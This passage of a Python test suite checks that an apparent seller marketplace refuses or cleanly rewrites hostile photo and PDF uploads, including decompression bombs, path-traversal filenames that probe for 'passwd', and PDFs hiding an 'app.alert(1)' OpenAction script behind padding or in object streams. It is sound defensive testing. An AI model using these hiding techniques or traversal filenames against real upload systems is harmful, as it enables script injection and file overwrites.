        assert raw not in page
    return html.unescape(page)


def assert_clean_image(data: bytes, uploaded: bytes, fmt: str,
                       modes: tuple[str, ...]) -> Image.Image:
    """A fresh, whole, still image in this format, with no metadata and none of the payload."""
    assert data != uploaded, "the uploaded bytes were stored as they came"
    image = Image.open(io.BytesIO(data), formats=[fmt])
    image.load()
    assert image.format == fmt and image.mode in modes, (image.format, image.mode)
    assert getattr(image, "n_frames", 1) == 1 and b"acTL" not in data
    assert not image.getexif(), "EXIF kept"
    kept = {"comment", "icc_profile", "exif", "xmp", "transparency"} & set(image.info)
    assert not kept, f"metadata kept: {kept}"
    assert not [marker for marker in PAYLOAD if marker in data]
    return image


def assert_clean_pdf(stored: bytes, uploaded: bytes) -> None:
    """A fresh PDF, with the upload's pages and nothing active left anywhere."""
    assert stored != uploaded, "the uploaded bytes were stored as they came"
    assert not [marker for marker in PAYLOAD if marker in stored]
    with pikepdf.open(io.BytesIO(uploaded)) as before:
        pages = len(before.pages)
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert not pdf.is_encrypted
        assert len(pdf.pages) == pages
        assert active_content(pdf) == []


HIDING = ["pdf-javascript-in-object-stream-behind-3000-bytes-of-padding",
          "pdf-javascript-in-object-stream-with-indirect-filter"]


@pytest.mark.parametrize("name", HIDING)
def test_the_hidden_pdf_scripts_are_what_a_reader_runs(name):
    """The corpus is honest: a reader opens these without repairing them, and finds the script."""
    (item,) = [item for item in CORPUS if item.id == name]
    with pikepdf.open(io.BytesIO(item.make())) as pdf:
        assert pdf.get_warnings() == []
        assert pdf.Root.OpenAction.S == Name.JavaScript
        assert pdf.Root.OpenAction.JS == "app.alert(1)"
        assert any(entry.type == 2 for entry in pdf.get_xref_table().values())


# ---------------------------------------------------------------------------------------------
# Photos: /seller/listings/<id>/photos


def new_listing(app, seller_id: int) -> int:
    with app.test_request_context():
        seller = db.session.get(Seller, seller_id)
        listing = listings.create_listing(
            seller, {"odop_product_id": seller.products[0].id, "title": TITLE, "gst_rate": 5,
                     "description": "Silk"},
            {"price": "100", "mrp": "100", "stock": "1"})
        return listing.id


@pytest.mark.parametrize("item", CASES)
def test_a_hostile_photo_is_refused_or_rewritten(site, item, request):
    app, client = site.app, site.photo_client
    listing_id = new_listing(app, site.photo_seller)
    data = item.make()
    tree, photos = storage_tree(app), row_ids(app, ListingPhoto)
    if item.bomb:
        request.getfixturevalue("no_decoding")
    response = submit(client, f"/seller/listings/{listing_id}/photos",
                      {"photos": (io.BytesIO(data), item.filename)},
                      token_from=f"/seller/listings/{listing_id}")
    page = page_of(response)
    assert response.status_code != 500
    assert not list(site.base.rglob("passwd*")), "a file was written where its name said"

    if isinstance(item.photo, Refused):
        assert item.photo.message in page
        if item.photo not in (MALFORMED, UNREADABLE):
            assert response.status_code == 422
            assert f'value="{TITLE}"' in page, "the listing's own form is still filled in"
        else:
            assert response.status_code == 400
        assert row_ids(app, ListingPhoto) == photos
        assert storage_tree(app) == tree
        return

    if isinstance(item.photo, Failed):
        assert_failed_in_the_background(site, listing_id, item.photo, tree, photos)
        return

    assert isinstance(item.photo, Rewritten)
    assert response.status_code == 302, page
    with app.app_context():
        added = db.session.get(Listing, listing_id).working_content.photos
        assert len(added) == 1 and added[0].id not in photos
        keys = [(added[0].key(size, ext), ext) for size in (1600, 800, 320)
                for ext in ("webp", "jpg")]
    store = app.extensions["storage"]["public"]
    new = storage_tree(app) - tree
    # The original waited in private storage while it was processed, and is gone: only the
    # folder it was in remains.
    allowed = {f"public/{key}" for key, _ in keys} | {f"public/{keys[0][0].rsplit('/', 1)[0]}",
                                                      "public/photos", "public", "private",
                                                      "private/photo-originals"}
    assert new <= allowed, f"stray files: {new - allowed}"
    for key, ext in keys:
        stored = store.read(key)
        image = assert_clean_image(stored, data, {"webp": "WEBP", "jpg": "JPEG"}[ext], ("RGB",))
        if item.photo.looks and key.endswith("-800.jpg"):
            item.photo.looks(image)
        served = client.get(f"/media/{key}")
        assert served.status_code == 200 and served.data == stored
        assert served.headers["Content-Type"] == f"image/{'webp' if ext == 'webp' else 'jpeg'}"
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        # An image's own policy: nothing may load or run from it, even opened on its own.
        policy = served.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "sandbox" in policy


def assert_failed_in_the_background(site, listing_id: int, expected: Failed, tree: set[str],
                                    photos: set[int]) -> None:
    """The upload was taken; the job found the photo bad: the listing page says why, nothing
    public was written and the original is gone."""
    with site.app.app_context():
        added = db.session.get(Listing, listing_id).working_content.photos
        assert len(added) == 1 and added[0].id not in photos
        assert (added[0].status, added[0].original_key) == ("failed", None)
    page = page_of(site.photo_client.get(f"/seller/listings/{listing_id}"))
    assert "This photo could not be used." in page and expected.message in page
    assert storage_tree(site.app) - tree <= {"private", "private/photo-originals"}


# ---------------------------------------------------------------------------------------------
# Documents: /seller/onboarding/pan and /seller/onboarding/bank

SECTIONS = {
    "pan": ("pan_card", {"pan": "ABCPE1234F", "pan_name": "HOSTILE TESTER"}),
    "bank": ("bank_proof", {"bank_holder_name": "Hostile Tester", "bank_account_number": "",
                            "bank_account_confirm": "", "bank_ifsc": "SBIN0001234"}),
}


@pytest.mark.parametrize("section", SECTIONS)
@pytest.mark.parametrize("item", CASES)
def test_a_hostile_document_is_refused_or_rewritten(site, item, section, request):
    app, client = site.app, site.document_client
    field, typed = SECTIONS[section]
    data = item.make()
    tree, documents = storage_tree(app), row_ids(app, SellerDocument)
    if item.bomb:
        request.getfixturevalue("no_decoding")
    response = submit(client, f"/seller/onboarding/{section}",
                      {**typed, field: (io.BytesIO(data), item.filename), "save_later": "1"})
    page = page_of(response)
    assert response.status_code != 500
    assert not list(site.base.rglob("passwd*")), "a file was written where its name said"

    if isinstance(item.document, Refused):
        assert item.document.message in page
        if item.document not in (MALFORMED, UNREADABLE):
            assert response.status_code == 422
            for value in typed.values():
                assert not value or f'value="{value}"' in page, f"{value} not kept"
        else:
            assert response.status_code == 400
        assert row_ids(app, SellerDocument) == documents
        assert storage_tree(app) == tree
        return

    assert response.status_code == 302, page
    with app.app_context():
        seller = db.session.get(Seller, site.document_seller)
        (document,) = seller.documents_of(field)
        assert document.id not in documents
        document_id, content_type, key = document.id, document.content_type, document.storage_key
    assert re.fullmatch(r"documents/[0-9a-f]{32}", key)
    new = storage_tree(app) - tree
    assert new == {f"private/{key}"}, f"stray files: {new}"
    stored = app.extensions["storage"]["private"].read(key)
    if item.document == CLEANED:
        assert content_type == "application/pdf"
        assert_clean_pdf(stored, data)
    else:
        fmt = item.document.format
        assert content_type == f"image/{fmt.lower()}"
        image = assert_clean_image(stored, data, fmt, ("RGB", "L"))
        if item.document.looks:
            item.document.looks(image)
    served = client.get(f"/documents/{document_id}")
    assert served.status_code == 200 and served.data == stored
    assert served.headers["Content-Type"] == content_type
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served.headers["Content-Security-Policy"].split(";")[0]
    assert "no-store" in served.headers["Cache-Control"]
    # The name the person gave the file never reaches a header.
    assert re.fullmatch(r'(inline|attachment); filename="[a-z_]+-\d+\.(pdf|jpg|png)"',
                        served.headers["Content-Disposition"])
